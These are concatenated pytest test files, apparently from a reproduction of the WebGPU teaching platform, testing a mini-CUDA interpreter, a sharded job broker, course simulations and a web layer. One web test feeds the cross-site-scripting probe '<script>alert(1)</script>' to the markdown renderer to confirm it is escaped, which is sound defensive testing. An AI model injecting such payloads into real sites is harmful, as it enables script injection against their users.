_SAFE_BINOPS = ("+", "-", "*", "&", "|", "^", "<", "<=", ">", ">=",
                "==", "!=", "&&", "||")


def _wrap_divisor(node: Node) -> Node:
    """Ensure a divisor is never zero: (x | 1) is always odd."""
    return Binary("|", node, Lit(1))


def _wrap_shift(node: Node) -> Node:
    """Bound a shift amount into [0, 8)."""
    return Binary("%", Binary("&", node, Lit(0x7FFF)), Lit(8))


def expressions(max_depth: int = 4) -> st.SearchStrategy[Node]:
    literals = st.integers(min_value=-50, max_value=50).map(Lit)

    def extend(children: st.SearchStrategy[Node]) -> st.SearchStrategy[Node]:
        unary = st.builds(Unary, st.sampled_from(("-", "~", "!")), children)
        safe_binary = st.builds(Binary, st.sampled_from(_SAFE_BINOPS),
                                children, children)
        division = st.builds(
            lambda op, a, b: Binary(op, a, _wrap_divisor(b)),
            st.sampled_from(("/", "%")), children, children)
        shifts = st.builds(
            lambda op, a, b: Binary(op, Binary("&", a, Lit(0xFFFF)),
                                    _wrap_shift(b)),
            st.sampled_from(("<<", ">>")), children, children)
        ternary = st.builds(Ternary, children, children, children)
        return st.one_of(safe_binary, unary, division, shifts, ternary)

    return st.recursive(literals, extend, max_leaves=12)


def run_expression(node: Node) -> int:
    source = f"""
int main() {{
  int result = {node.render()};
  if (result == {node.evaluate()}) {{
    return 1;
  }}
  return 0;
}}
"""
    program = compile_source(source)
    return program.run_main(host_env=HostEnv()).exit_code


def run_expression_in_kernel(node: Node, engine: str):
    """Check the expression on-device; returns (1-if-match, KernelStats).

    The comparison happens inside the kernel (interpreter integers are
    unbounded, the int32 output buffer is not)."""
    source = f"""
__global__ void eval(int *out) {{
  int ok = ({node.render()}) == ({node.evaluate()});
  out[0] = ok;
}}
int main() {{ return 0; }}
"""
    program = compile_source(source)
    rt = GpuRuntime(Device())
    out = rt.malloc(1, "int")
    stats = program.launch(rt, "eval", 1, 1, out.ptr(), engine=engine)
    return int(rt.memcpy_dtoh(out)[0]), stats


class TestDifferential:
    @given(expressions())
    @settings(max_examples=120, deadline=None)
    def test_interpreter_matches_c_semantics(self, node):
        assert run_expression(node) == 1, node.render()

    @given(expressions())
    @settings(max_examples=60, deadline=None)
    def test_engines_agree_on_device(self, node):
        """Every kernel engine must produce the same value AND
        bit-identical profiling counters for any expression."""
        ok_ast, stats_ast = run_expression_in_kernel(node, "ast")
        for engine in ("closure", "codegen", "simd"):
            ok_eng, stats_eng = run_expression_in_kernel(node, engine)
            assert ok_ast == 1, node.render()
            assert ok_eng == 1, (engine, node.render())
            assert stats_ast.instructions == stats_eng.instructions, \
                (engine, node.render())

    @given(expressions(), st.integers(0, 63), st.booleans())
    @settings(max_examples=40, deadline=None)
    def test_engines_agree_under_divergence(self, node, cut, flip):
        """Warp-divergent kernels: lanes take different branches of a
        boundary-guarded if/else, with a random expression evaluated
        in one arm. The simd engine runs both arms under lane masks;
        outputs AND every per-lane instruction charge must match the
        tree-walking oracle bit for bit."""
        op = "<" if flip else ">="
        source = f"""
__global__ void diverge(int *out, int n) {{
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) {{
    if (i {op} {cut}) {{
      out[i] = ({node.render()}) + i;
    }} else {{
      out[i] = i * 2 - 1;
    }}
  }}
}}
int main() {{ return 0; }}
"""
        program = compile_source(source)
        n = 60  # deliberately off the 64-thread grid: tail lanes masked
        results = {}
        for engine in ("ast", "closure", "codegen", "simd"):
            rt = GpuRuntime(Device())
            out = rt.malloc(n, "int")
            stats = program.launch(rt, "diverge", 2, 32, out.ptr(), n,
                                   engine=engine)
            results[engine] = (list(rt.memcpy_dtoh(out)), stats)
        vals_ast, stats_ast = results["ast"]
        for engine in ("closure", "codegen", "simd"):
            vals_eng, stats_eng = results[engine]
            assert vals_eng == vals_ast, (engine, node.render())
            assert stats_eng.instructions == stats_ast.instructions, \
                (engine, node.render())
            assert stats_eng.global_store_requests == \
                stats_ast.global_store_requests, engine

    @given(expressions(max_depth=3), st.integers(0, 63), st.booleans())
    @settings(max_examples=20, deadline=None)
    def test_line_ledgers_agree_across_engines(self, node, cut, flip):
        """The per-line profiler ledger is part of the engine-parity
        contract: profiled runs must produce bit-identical
        :class:`LineProfile` ledgers on every engine — including the
        divergence counts only mixed warps accrue, and the loop-line
        pinning of condition/step charges."""
        op = "<" if flip else ">="
        source = f"""
__global__ void diverge(int *out, int n) {{
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  int acc = 0;
  for (int k = 0; k < 3; k++) {{
    acc += out[(i + k) % n];
  }}
  if (i < n) {{
    if (i {op} {cut}) {{
      out[i] = ({node.render()}) + acc;
    }} else {{
      out[i] = acc * 2 - 1;
    }}
  }}
}}
int main() {{ return 0; }}
"""
        program = compile_source(source)
        n = 60  # off the 64-thread grid: tail lanes masked
        ledgers = {}
        for engine in ("ast", "closure", "codegen", "simd"):
            rt = GpuRuntime(Device())
            out = rt.malloc(n, "int")
            stats = program.launch(rt, "diverge", 2, 32, out.ptr(), n,
                                   engine=engine, profile=True)
            assert stats.line_profile is not None, engine
            ledgers[engine] = stats.line_profile
        reference = ledgers["ast"]
        assert reference.total_instructions > 0
        for engine in ("closure", "codegen", "simd"):
            assert ledgers[engine] == reference, (engine, node.render())

    @given(st.integers(-100, 100), st.integers(-100, 100))
    @settings(max_examples=40, deadline=None)
    def test_division_pairs(self, a, b):
        node = Binary("/", Lit(a), _wrap_divisor(Lit(b)))
        assert run_expression(node) == 1

    @given(st.lists(st.sampled_from("+-*"), min_size=1, max_size=6),
           st.lists(st.integers(-9, 9), min_size=2, max_size=7))
    @settings(max_examples=40, deadline=None)
    def test_left_associative_chains(self, ops, values):
        # a op b op c ... without parentheses: exercises precedence
        n = min(len(ops), len(values) - 1)
        text = str(values[0])
        expected = values[0]
        for op, value in zip(ops[:n], values[1:n + 1]):
            text += f" {op} {value}"
        expected = eval(text)  # +,-,* agree between C and Python
        source = f"""
int main() {{
  int r = {text};
  return r == ({expected}) ? 1 : 0;
}}
"""
        program = compile_source(source)
        assert program.run_main(host_env=HostEnv()).exit_code == 1
