"""Fabric end-to-end: WebGPU2 on the sharded broker, batched drivers,
admission control in the student path, shard loss mid-run."""

import pytest

from repro.broker import ConfigServer, ContainerPool, WorkerDriver
from repro.broker.containers import CUDA_IMAGE
from repro.cluster import FaultInjector, GpuWorker, ManualClock, WorkerConfig
from repro.cluster.job import Job, JobStatus
from repro.core import WebGPU2
from repro.core.course import CourseOffering
from repro.db import Database
from repro.fabric import AdmissionState, FabricConfig, SLOPolicy
from repro.labs import get_lab

VECADD = get_lab("vector-add")


def make_platform(**fabric_kwargs):
    clock = ManualClock()
    platform = WebGPU2(clock=clock, num_workers=2,
                       fabric=FabricConfig(num_shards=3, **fabric_kwargs))
    course = platform.create_course(
        CourseOffering(code="HPP", year=2015), ["vector-add"])
    student = platform.users.register("stu@x.com", "Stu", "pw")
    course.enroll(student.user_id)
    return platform, clock, course, student


class TestFabricPlatform:
    def test_full_workflow_on_fabric(self):
        platform, clock, _, student = make_platform()
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        clock.advance(30)
        attempt = platform.run_attempt("HPP-2015", student, "vector-add",
                                       dataset_index=0)
        assert attempt.correct
        clock.advance(30)
        attempt, grade = platform.submit_for_grading("HPP-2015", student,
                                                     "vector-add")
        assert grade.total_points > 0
        # the jobs really crossed the sharded fabric
        summary = platform.broker.shard_summary()
        assert sum(s["publishes"] for s in summary.values()) == 2

    def test_jobs_carry_course_partition_key(self):
        platform, clock, _, student = make_platform()
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        clock.advance(30)
        platform.run_attempt("HPP-2015", student, "vector-add")
        stats = platform.broker.queue.stats
        assert stats.acked == 1
        # the admission controller saw the submission
        assert platform.broker.admission.admitted == 1

    def test_shedding_returns_rejected_attempt(self):
        platform, clock, _, student = make_platform(
            slo=SLOPolicy(sample_interval_s=100_000.0))
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        clock.advance(30)
        # pin the meter's sample clock, then force the storm posture
        platform.broker.slo.sample(clock.now())
        platform.broker.admission.observe_burn(10.0, clock.now())
        assert platform.broker.admission.state is AdmissionState.SHEDDING
        attempt = platform.run_attempt("HPP-2015", student, "vector-add")
        result = platform._last_results[(student.user_id, "vector-add")]
        assert result.status is JobStatus.REJECTED
        assert "shed by admission control" in result.error
        assert not attempt.correct
        assert platform.broker.admission.shed == 1
        # nothing was published for the shed job
        assert platform.broker.depth() == 0

    def test_grading_admitted_even_while_shedding(self):
        platform, clock, _, student = make_platform(
            slo=SLOPolicy(sample_interval_s=100_000.0))
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        clock.advance(30)
        platform.broker.slo.sample(clock.now())
        platform.broker.admission.observe_burn(10.0, clock.now())
        attempt, grade = platform.submit_for_grading("HPP-2015", student,
                                                     "vector-add")
        assert grade.total_points > 0
        assert platform.broker.admission.shed == 0

    def test_deferred_run_still_completes(self):
        platform, clock, _, student = make_platform(
            slo=SLOPolicy(sample_interval_s=100_000.0))
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        clock.advance(30)
        platform.broker.slo.sample(clock.now())
        platform.broker.admission.observe_burn(1.5, clock.now())
        assert platform.broker.admission.state is AdmissionState.DEFERRING
        before = clock.now()
        attempt = platform.run_attempt("HPP-2015", student, "vector-add")
        assert attempt.correct
        assert platform.broker.admission.deferred == 1
        # the pump waited out the deferral delay before delivery
        assert clock.now() >= before + 30.0

    def test_shard_crash_mid_run_redelivers(self):
        platform, clock, _, student = make_platform()
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        revision = platform.revisions.latest(student.user_id, "vector-add")
        job = Job(lab=platform.course("HPP-2015").labs["vector-add"],
                  source=revision.source, course="HPP-2015",
                  submitted_at=clock.now())
        shard = platform.broker.publish(job, clock.now())
        injector = FaultInjector(seed=3)
        report = injector.crash_shard(platform.broker, shard, clock.now())
        assert report.waiting == 1
        results = platform.pump()
        assert [r.job_id for r in results] == [job.job_id]
        assert results[0].status is JobStatus.COMPLETED
        assert platform.broker.depth() == 0
        assert not platform.broker.dead_letters()

    def test_dashboard_shows_fabric_panels(self):
        platform, clock, _, student = make_platform()
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        clock.advance(30)
        platform.run_attempt("HPP-2015", student, "vector-add")
        text = platform.dashboard.render()
        assert "shards:" in text
        assert "admission:" in text


class TestBatchedDriver:
    def make_fabric_driver(self, clock, fabric):
        worker = GpuWorker(WorkerConfig(tags=frozenset({"cuda"})),
                           clock=clock)
        return WorkerDriver(worker, fabric, ContainerPool([CUDA_IMAGE]),
                            ConfigServer(), Database("metrics"),
                            clock=clock)

    def _publish(self, fabric, clock, n):
        jobs = [Job(lab=VECADD, source=VECADD.solution, course=f"c{i}")
                for i in range(n)]
        fabric.publish_batch(jobs, clock.now())
        return jobs

    def test_step_batch_processes_and_acks_in_bulk(self):
        from repro.fabric import BrokerFabric
        clock = ManualClock()
        fabric = BrokerFabric(num_shards=3)
        driver = self.make_fabric_driver(clock, fabric)
        jobs = self._publish(fabric, clock, 5)
        results = driver.step_batch(max_jobs=5)
        assert sorted(r.job_id for r in results) == \
            sorted(j.job_id for j in jobs)
        assert driver.stats.batches == 1
        assert fabric.depth() == 0 and fabric.in_flight_count == 0
        io = fabric.io_savings()
        assert io["ack"]["ops"] == 5 and io["ack"]["rpcs"] == 1

    def test_batched_renew_counts_saved_round_trips(self):
        from repro.fabric import BrokerFabric
        clock = ManualClock()
        fabric = BrokerFabric(num_shards=3)
        driver = self.make_fabric_driver(clock, fabric)
        self._publish(fabric, clock, 4)
        polled = fabric.poll_batch(frozenset({"cuda"}), 1, clock.now(),
                                   consumer=driver.worker.name, max_jobs=4)
        for job, _ in polled:
            driver._held[job.job_id] = job
        renewed = driver.renew_held_leases()
        assert renewed == 4
        assert driver.stats.renew_rpcs == 1
        assert driver.stats.renewed_leases == 4
        metrics = fabric.telemetry.metrics
        assert metrics.counter(
            "webgpu_lease_renew_saved_round_trips_total").value() == 3
        assert metrics.counter("webgpu_lease_renewals_total").value() == 4

    def test_step_batch_renews_while_leases_are_held(self):
        # regression: the renewal used to run at the *top* of the pump
        # cycle, before any leases were polled, so _held was always
        # empty and no renewal ever reached the broker
        from repro.fabric import BrokerFabric
        clock = ManualClock()
        fabric = BrokerFabric(num_shards=3)
        driver = self.make_fabric_driver(clock, fabric)
        self._publish(fabric, clock, 4)
        results = driver.step_batch(max_jobs=4)
        assert len(results) == 4
        assert driver.stats.renew_rpcs == 1
        assert driver.stats.renewed_leases == 4
        metrics = fabric.telemetry.metrics
        assert metrics.counter(
            "webgpu_lease_renew_saved_round_trips_total").value() == 3

    def test_single_job_step_makes_no_renew_rpc(self):
        # step() holds its one lease only inside the cycle; with the
        # dead top-of-cycle call gone it must not issue renew RPCs
        from repro.fabric import BrokerFabric
        clock = ManualClock()
        fabric = BrokerFabric(num_shards=1)
        driver = self.make_fabric_driver(clock, fabric)
        self._publish(fabric, clock, 2)
        assert driver.step() is not None
        assert driver.step() is not None
        assert driver.stats.renew_rpcs == 0

    def test_renew_coalesced_to_one_rpc_per_pump_cycle(self):
        from repro.fabric import BrokerFabric
        clock = ManualClock()
        fabric = BrokerFabric(num_shards=1)
        driver = self.make_fabric_driver(clock, fabric)
        self._publish(fabric, clock, 2)
        polled = fabric.poll_batch(frozenset({"cuda"}), 1, clock.now(),
                                   consumer=driver.worker.name, max_jobs=2)
        for job, _ in polled:
            driver._held[job.job_id] = job
        driver._pump_tick += 1
        assert driver.renew_held_leases() == 2
        # a second call in the same cycle is a no-op
        assert driver.renew_held_leases() == 0
        assert driver.stats.renew_rpcs == 1
        driver._pump_tick += 1
        assert driver.renew_held_leases() == 2
        assert driver.stats.renew_rpcs == 2

    def test_renew_extends_lease_deadline(self):
        from repro.broker import DeliveryPolicy
        from repro.fabric import BrokerFabric
        clock = ManualClock()
        fabric = BrokerFabric(
            num_shards=1,
            policy=DeliveryPolicy(visibility_timeout_s=10.0))
        driver = self.make_fabric_driver(clock, fabric)
        self._publish(fabric, clock, 1)
        polled = fabric.poll_batch(frozenset({"cuda"}), 1, clock.now(),
                                   consumer=driver.worker.name, max_jobs=1)
        job = polled[0][0]
        driver._held[job.job_id] = job
        clock.advance(8.0)
        driver.renew_held_leases()
        # without the renew the lease would expire at t=10
        assert fabric.expire_leases(15.0) == []
        assert fabric.in_flight_count == 1

    def test_renew_without_held_leases_is_free(self):
        from repro.fabric import BrokerFabric
        clock = ManualClock()
        fabric = BrokerFabric(num_shards=1)
        driver = self.make_fabric_driver(clock, fabric)
        assert driver.renew_held_leases() == 0
        assert driver.stats.renew_rpcs == 0

    def test_wedged_mid_batch_flushes_nothing(self):
        from repro.fabric import BrokerFabric
        clock = ManualClock()
        fabric = BrokerFabric(num_shards=1)
        driver = self.make_fabric_driver(clock, fabric)
        jobs = self._publish(fabric, clock, 3)
        driver.worker.wedge_mid_job = True
        results = driver.step_batch(max_jobs=3)
        # the node wedged on the first job: no acks flushed at all
        assert results == []
        assert fabric.queue.stats.acked == 0
        assert not driver._held
        # every lease expires and redelivers to a healthy node
        clock.advance(60.0)
        expired = fabric.expire_leases(clock.now())
        assert {j.job_id for j in expired} <= {j.job_id for j in jobs}
        healthy = self.make_fabric_driver(clock, fabric)
        clock.advance(60.0)
        fabric.expire_leases(clock.now())
        results = healthy.step_batch(max_jobs=3)
        assert len(results) == 3
