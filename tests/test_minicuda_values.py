"""Runtime value semantics: pointers, views, coercion, environments."""

import numpy as np
import pytest

from repro.minicuda.ast_nodes import CType
from repro.minicuda.values import (
    NULL,
    Env,
    HostBuffer,
    HostPtr,
    LocalArray,
    MDView,
    MemoryFault,
    coerce,
    sizeof_ctype,
)


class TestHostPtr:
    def make(self, n=10, dtype=np.float32):
        return HostPtr(HostBuffer(np.arange(n, dtype=dtype), "test"))

    def test_read_write(self):
        ptr = self.make()
        ptr.write(3, 99.0)
        assert ptr.read(3) == 99.0

    def test_bounds(self):
        ptr = self.make(4)
        with pytest.raises(MemoryFault):
            ptr.read(4)
        with pytest.raises(MemoryFault):
            ptr.write(-1, 0.0)

    def test_pointer_arithmetic_shares_storage(self):
        ptr = self.make()
        shifted = ptr + 4
        shifted.write(0, -1.0)
        assert ptr.read(4) == -1.0
        assert (shifted - 4).offset == 0

    def test_retyped_reinterprets_bytes(self):
        raw = HostPtr(HostBuffer(np.zeros(8, dtype=np.uint8), "raw"))
        floats = raw.retyped("float")
        floats.write(0, 1.0)
        assert floats.read(0) == 1.0
        assert floats.buffer.data.dtype == np.float32
        # same memory: the underlying bytes changed
        assert raw.buffer.data[:4].any()

    def test_retyped_same_dtype_is_identity(self):
        ptr = self.make()
        assert ptr.retyped("float") is ptr

    def test_as_array_respects_offset(self):
        ptr = self.make(10) + 6
        assert list(ptr.as_array(3)) == [6.0, 7.0, 8.0]


class TestNull:
    def test_singleton_and_falsy(self):
        assert NULL is type(NULL)()
        assert not NULL

    def test_dereference_faults(self):
        with pytest.raises(MemoryFault, match="NULL"):
            NULL.read(0)
        with pytest.raises(MemoryFault):
            NULL.write(0, 1)


class TestMDView:
    def test_two_level_indexing(self):
        arr = LocalArray("a", 12, "int")
        view = MDView(arr, (3, 4))
        sub = view.sub(2)
        assert sub.is_scalar_level
        assert sub.flat_index(1) == 2 * 4 + 1

    def test_three_levels(self):
        arr = LocalArray("a", 24, "float")
        view = MDView(arr, (2, 3, 4))
        assert view.sub(1).sub(2).flat_index(3) == 1 * 12 + 2 * 4 + 3

    def test_dim_bounds_enforced(self):
        view = MDView(LocalArray("a", 12, "int"), (3, 4))
        with pytest.raises(MemoryFault):
            view.sub(3)
        with pytest.raises(MemoryFault):
            view.sub(0).flat_index(4)


class TestCoercion:
    def test_int_declared_truncates(self):
        assert coerce(2.9, CType("int")) == 2
        assert coerce(-2.9, CType("int")) == -2

    def test_float_declared_rounds_to_f32(self):
        value = coerce(0.1, CType("float"))
        assert value == float(np.float32(0.1))
        assert value != 0.1

    def test_double_keeps_precision(self):
        assert coerce(0.1, CType("double")) == 0.1

    def test_bool(self):
        assert coerce(3, CType("bool")) is True
        assert coerce(0, CType("bool")) is False

    def test_pointers_pass_through(self):
        ptr = HostPtr(HostBuffer(np.zeros(1, dtype=np.float32), "x"))
        assert coerce(ptr, CType("float", pointers=1)) is ptr

    def test_none_type_pass_through(self):
        assert coerce(1.5, None) == 1.5


class TestSizeof:
    @pytest.mark.parametrize("base,size", [
        ("float", 4), ("double", 8), ("int", 4), ("char", 1),
        ("bool", 1), ("long", 8), ("dim3", 12),
    ])
    def test_scalars(self, base, size):
        assert sizeof_ctype(CType(base)) == size

    def test_pointers_are_eight_bytes(self):
        assert sizeof_ctype(CType("float", pointers=1)) == 8
        assert sizeof_ctype(CType("void", pointers=2)) == 8

    def test_arrays_multiply(self):
        assert sizeof_ctype(CType("float", array_dims=(4, 8))) == 128

    def test_unknown_type_rejected(self):
        with pytest.raises(ValueError):
            sizeof_ctype(CType("wbArg_t"))


class TestEnv:
    def test_scoped_lookup_and_shadowing(self):
        outer = Env()
        outer.declare("x", 1, CType("int"))
        inner = Env(outer)
        assert inner.get("x") == 1
        inner.declare("x", 2, CType("int"))
        assert inner.get("x") == 2
        assert outer.get("x") == 1

    def test_assignment_writes_declaring_scope(self):
        outer = Env()
        outer.declare("x", 1, CType("int"))
        inner = Env(outer)
        inner.assign("x", 5)
        assert outer.get("x") == 5

    def test_assignment_coerces_to_declared_type(self):
        env = Env()
        env.declare("n", 0, CType("int"))
        env.assign("n", 3.7)
        assert env.get("n") == 3

    def test_undefined_access_raises(self):
        env = Env()
        with pytest.raises(NameError):
            env.get("ghost")
        with pytest.raises(NameError):
            env.assign("ghost", 1)

    def test_type_of(self):
        env = Env()
        env.declare("f", 0.0, CType("float"))
        assert env.type_of("f").base == "float"
        assert env.type_of("ghost") is None
