"""Course-offering scenarios beyond the Coursera three."""

import pytest

from repro.simulate import (
    ECE408_2015,
    HPP_2013,
    HPP_2014,
    HPP_2015,
    PUMPS_2015,
    StudentPopulation,
    simulate_funnel,
)
from repro.simulate.scenarios import COURSERA_OFFERINGS, OfferingScenario


class TestScenarioCalibration:
    def test_retention_solves_completion_identity(self):
        """engaged x retention^weeks must equal the published rate."""
        for scenario in COURSERA_OFFERINGS:
            implied = (scenario.engaged_fraction
                       * scenario.weekly_retention ** scenario.weeks)
            assert implied == pytest.approx(
                scenario.target_completion_rate, rel=1e-9)

    def test_unreachable_completion_rejected(self):
        bad = OfferingScenario(
            name="bad", registered=100, weeks=5,
            target_completion_rate=0.5, certificates_issued=None,
            engaged_fraction=0.1, seed=1)
        with pytest.raises(ValueError, match="unreachable"):
            bad.weekly_retention

    def test_certificate_rates_match_published_ratios(self):
        # 286/1061 and 442/1141
        assert HPP_2014.certificate_rate == pytest.approx(0.269, abs=0.01)
        assert HPP_2015.certificate_rate == pytest.approx(0.390, abs=0.01)
        assert HPP_2013.certificate_rate == 0.0


class TestTraditionalOfferings:
    def test_ece408_is_a_small_high_completion_course(self):
        """Section V: for ECE 408 'WebGPU scales down in the number of
        worker nodes and serves as a development environment for a
        traditional course offering'."""
        result = simulate_funnel(ECE408_2015)
        assert result.registered == 220
        # a for-credit campus course completes at ~85%, not 3%
        assert result.completion_rate > 0.75
        mooc = simulate_funnel(HPP_2015)
        assert result.completion_rate > 20 * mooc.completion_rate

    def test_pumps_is_one_intensive_week(self):
        result = simulate_funnel(PUMPS_2015)
        assert PUMPS_2015.weeks == 1
        assert result.completion_rate > 0.8

    def test_campus_course_needs_tiny_fleet(self):
        """The scale-down claim, quantified: ECE 408's hourly peak is a
        small fraction of the MOOC's."""
        campus = StudentPopulation(
            ECE408_2015.population_params()).generate()
        mooc = StudentPopulation(
            HPP_2015.figure1_population_params()).generate()
        assert campus.hourly_active.peak < mooc.hourly_active.peak / 3

    def test_pumps_activity_is_compressed(self):
        result = StudentPopulation(PUMPS_2015.population_params()).generate()
        series = result.hourly_active
        assert series.hours == 168  # one week
        # nearly the whole cohort engages
        assert result.engaged_students > 0.85 * PUMPS_2015.registered
