"""Web layer: markdown, router, sessions, views, the app routes."""

import pytest

from repro.cluster import ManualClock
from repro.core import WebGPU
from repro.core.course import CourseOffering
from repro.labs import get_lab
from repro.web import (
    Request,
    Router,
    Response,
    SessionManager,
    WebGpuApp,
    render_attempts_view,
    render_code_view,
    render_description_view,
    render_history_view,
    render_markdown,
    render_roster_view,
)
from repro.web.auth import AuthError

VECADD = get_lab("vector-add")


class TestMarkdown:
    def test_headers(self):
        assert "<h1>Title</h1>" in render_markdown("# Title")
        assert "<h3>Sub</h3>" in render_markdown("### Sub")

    def test_paragraph_joining(self):
        html = render_markdown("line one\nline two\n\nnext para")
        assert html.count("<p>") == 2
        assert "line one line two" in html

    def test_inline_markup(self):
        html = render_markdown("use `cudaMalloc` and **check** *errors*")
        assert "<code>cudaMalloc</code>" in html
        assert "<strong>check</strong>" in html
        assert "<em>errors</em>" in html

    def test_links(self):
        html = render_markdown("[libwb](https://github.com/abduld/libwb)")
        assert '<a href="https://github.com/abduld/libwb">libwb</a>' in html

    def test_lists(self):
        html = render_markdown("- one\n- two\n\n1. first\n2. second")
        assert html.count("<li>") == 4
        assert "<ul>" in html and "<ol>" in html

    def test_fenced_code_blocks_escaped(self):
        html = render_markdown("```\nif (a < b) x = &y;\n```")
        assert "<pre><code>" in html
        assert "&lt;" in html and "&amp;" in html

    def test_html_injection_escaped(self):
        html = render_markdown("<script>alert(1)</script>")
        assert "<script>" not in html

    def test_unterminated_fence_still_renders(self):
        html = render_markdown("```\ncode")
        assert "code" in html


class TestRouter:
    def test_placeholder_extraction(self):
        router = Router()
        router.add("GET", "/lab/<slug>/code",
                   lambda req: Response(body=req.params["slug"]))
        response = router.dispatch(Request("GET", "/lab/vector-add/code"))
        assert response.body == "vector-add"

    def test_404(self):
        router = Router()
        assert router.dispatch(Request("GET", "/nope")).status == 404

    def test_method_mismatch_404(self):
        router = Router()
        router.add("POST", "/x", lambda req: Response())
        assert router.dispatch(Request("GET", "/x")).status == 404

    def test_http_error_becomes_status(self):
        from repro.web import HttpError
        router = Router()

        def handler(req):
            raise HttpError(403, "no")

        router.add("GET", "/x", handler)
        assert router.dispatch(Request("GET", "/x")).status == 403


class TestSessions:
    @pytest.fixture
    def users(self):
        from repro.core.users import UserStore
        from repro.db import Database
        store = UserStore(Database())
        store.register("a@x.com", "Ana", "pw")
        return store

    def test_login_and_authenticate(self, users):
        sm = SessionManager(users)
        session = sm.login("a@x.com", "pw", now=0.0)
        assert sm.authenticate(session.token, now=100.0).email == "a@x.com"

    def test_bad_password(self, users):
        sm = SessionManager(users)
        with pytest.raises(AuthError):
            sm.login("a@x.com", "wrong", now=0.0)

    def test_expiry(self, users):
        sm = SessionManager(users, ttl_s=60.0)
        session = sm.login("a@x.com", "pw", now=0.0)
        with pytest.raises(AuthError, match="expired"):
            sm.authenticate(session.token, now=61.0)

    def test_logout(self, users):
        sm = SessionManager(users)
        session = sm.login("a@x.com", "pw", now=0.0)
        sm.logout(session.token)
        with pytest.raises(AuthError):
            sm.authenticate(session.token, now=1.0)

    def test_device_share_tracking(self, users):
        """The paper: ~2% of logins came from tablets and phones."""
        sm = SessionManager(users)
        for i in range(49):
            sm.login("a@x.com", "pw", now=float(i))
        sm.login("a@x.com", "pw", now=50.0, device_class="tablet")
        assert sm.device_share("tablet") == pytest.approx(0.02)


class TestViewRendering:
    def test_description_includes_rubric(self):
        html = render_description_view(VECADD)
        assert "<h1>Vector Addition</h1>" in html
        assert "Rubric".lower() in html.lower() or "rubric" in html
        assert "80" in html and "Total" in html

    def test_code_view_escapes_source_and_lists_datasets(self):
        html = render_code_view(VECADD, "if (a < b) { }")
        assert "a &lt; b" in html
        assert html.count("<option") == len(VECADD.dataset_sizes)
        assert "Submit for Grading" in html

    def test_attempts_view_share_gating(self):
        from repro.core.submission import Attempt, SubmissionKind
        attempt = Attempt(
            attempt_id=1, user_id=1, lab="vector-add",
            kind=SubmissionKind.RUN, revision_id=1, dataset_index=0,
            submitted_at=5.0, status="completed", compile_ok=True,
            correct=True, report="Solution is correct.")
        before = render_attempts_view(VECADD, [attempt],
                                      deadline_passed=False)
        after = render_attempts_view(VECADD, [attempt], deadline_passed=True)
        assert "shareable after deadline" in before
        assert "/shared/attempt/1" in after

    def test_history_view_shows_snippets(self):
        from repro.core.history import Revision
        revision = Revision(revision_id=3, user_id=1, lab="vector-add",
                            source="line A\nline B", saved_at=9.0,
                            reason="autosave")
        html = render_history_view(VECADD, [revision])
        assert "line A" in html and "rev 3" in html

    def test_roster_view(self):
        from repro.core.instructor import RosterRow
        row = RosterRow(user_id=1, name="Stu", email="s@x.com", attempts=4,
                        last_submission_at=100.0, program_grade=88.0,
                        question_grade=10.0, total_grade=98.0)
        html = render_roster_view(VECADD, [row])
        assert "s@x.com" in html and "98.0" in html and "4 attempt" in html


class TestAppRoutes:
    @pytest.fixture
    def app(self):
        clock = ManualClock()
        platform = WebGPU(clock=clock)
        course = platform.create_course(
            CourseOffering(code="HPP", year=2015,
                           deadlines={"vector-add": 1000.0}),
            ["vector-add"])
        student = platform.users.register("s@x.com", "Stu", "pw")
        course.enroll(student.user_id)
        return WebGpuApp(platform, "HPP-2015"), clock

    def login(self, app):
        response = app.handle(Request("POST", "/login", form={
            "email": "s@x.com", "password": "pw"}))
        assert response.ok
        return response.body

    def test_requires_auth(self, app):
        app, _ = app
        assert app.handle(
            Request("GET", "/lab/vector-add/code")).status == 401

    def test_bad_login(self, app):
        app, _ = app
        response = app.handle(Request("POST", "/login", form={
            "email": "s@x.com", "password": "nope"}))
        assert response.status == 401

    def test_code_view_serves_skeleton_then_saved(self, app):
        app, _ = app
        token = self.login(app)
        first = app.handle(Request("GET", "/lab/vector-add/code",
                                   session_token=token))
        assert "Insert code" in first.body
        app.handle(Request("POST", "/lab/vector-add/code",
                           form={"source": "int main() { return 0; }"},
                           session_token=token))
        second = app.handle(Request("GET", "/lab/vector-add/code",
                                    session_token=token))
        assert "int main()" in second.body

    def test_run_and_attempts_flow(self, app):
        app, clock = app
        token = self.login(app)
        app.handle(Request("POST", "/lab/vector-add/code",
                           form={"source": VECADD.solution},
                           session_token=token))
        clock.advance(30)
        run = app.handle(Request("POST", "/lab/vector-add/run",
                                 form={"dataset": "0"},
                                 session_token=token))
        assert run.body.startswith("correct")
        attempts = app.handle(Request("GET", "/lab/vector-add/attempts",
                                      session_token=token))
        assert "correct" in attempts.body

    def test_submit_returns_grade(self, app):
        app, clock = app
        token = self.login(app)
        app.handle(Request("POST", "/lab/vector-add/code",
                           form={"source": VECADD.solution},
                           session_token=token))
        clock.advance(30)
        response = app.handle(Request("POST", "/lab/vector-add/submit",
                                      session_token=token))
        assert response.body.startswith("grade: 90.0")  # question unanswered

    def test_rate_limit_is_429(self, app):
        app, _ = app
        token = self.login(app)
        app.handle(Request("POST", "/lab/vector-add/code",
                           form={"source": VECADD.solution},
                           session_token=token))
        statuses = set()
        for _ in range(8):
            r = app.handle(Request("POST", "/lab/vector-add/compile",
                                   session_token=token))
            statuses.add(r.status)
        assert 429 in statuses

    def test_roster_forbidden_for_students(self, app):
        app, _ = app
        token = self.login(app)
        response = app.handle(Request("GET", "/instructor/vector-add/roster",
                                      session_token=token))
        assert response.status == 403

    def test_unknown_lab_404(self, app):
        app, _ = app
        token = self.login(app)
        response = app.handle(Request("GET", "/lab/bogus/code",
                                      session_token=token))
        assert response.status == 404
