"""Lab JSON deployment format and v2 automatic fleet scaling."""

import json

import numpy as np
import pytest

from repro.broker import (
    ConfigServer,
    ContainerPool,
    FleetManager,
    MessageBroker,
    WorkerDriver,
)
